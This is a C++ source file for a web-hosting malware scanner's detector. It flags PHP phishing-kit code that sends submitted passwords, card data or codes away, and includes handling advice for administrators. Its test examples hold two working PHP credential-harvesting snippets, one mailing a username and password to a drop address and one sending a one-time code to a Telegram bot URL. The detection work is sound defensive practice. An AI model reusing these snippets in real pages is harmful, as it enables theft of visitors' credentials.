// SPDX-License-Identifier: Apache-2.0

#include "base/text.h"
#include "sweep/host/code/php.h"
#include "sweep/host/code/places.h"
#include "sweep/kit/detector.h"

namespace abate::sweep {
namespace {

void look(const FileView& file, Findings& out) {
  const PhpFile& php = php_file(file.path, file.bytes);
  if (!php.is_php || speaks_of_malware(file.path)) return;
  for (const PhpFlow& flow : php.flows) {
    if (flow.what != PhpFlow::What::secrets_sent) continue;
    Finding& finding =
        out.add(file_subject(file.path, flow.line),
                fmt::format("PHP sends what a visitor typed (field {1}) away by {0}", flow.sink, flow.detail));
    finding.evidence.push_back(excerpt_of_line(file.path, file.bytes, flow.line));
    finding.role = "kit";
    return;
  }
}

constexpr Example kExamples[] = {{"mailed to a drop address", R"TREE(--- /var/www/html/b/next.php
<?php $m = "U " . $_POST["user"] . " P " . $_POST["password"]; mail("drop@example.test", "r", $m); header("Location: x");
)TREE",
                                  1},
                                 {"to a messenger", R"TREE(--- /var/www/html/b/go.php
<?php $u="https://api.telegram.org/bot123:AA/sendMessage"; $t=$_POST["otp"]; file_get_contents($u."?text=".urlencode($t));
)TREE",
                                  1},
                                 {"a login that checks a password is fine", R"TREE(--- /var/www/html/l.php
<?php if (password_verify($_POST["password"], $row["hash"])) { $_SESSION["u"] = 1; mail($admin, "login", $_POST["user"]); }
)TREE",
                                  0}};

}  // namespace

extern const Detector php_secrets_sent_detector;
constinit const Detector php_secrets_sent_detector{
    .id = "php_secrets_sent",
    .area = Area::web,
    .severity = Severity::malicious,
    .title = "PHP collects passwords or card data and sends them away",
    .explain =
        R"TEXT(The file takes what a visitor typed into password, card or code fields and mails it, sends it to a messenger's bot, or appends it to a file: the working part of a phishing kit.
Victims' data may lie beside it: it is sealed, never printed.
False alarms: a home-made login that logs passwords. That is dangerous too; say so to its author.
What to do: seal a copy, remove the whole folder, answer the page's address with 410, find how it was put there.)TEXT",
    .file = look,
    .examples = kExamples};

}  // namespace abate::sweep
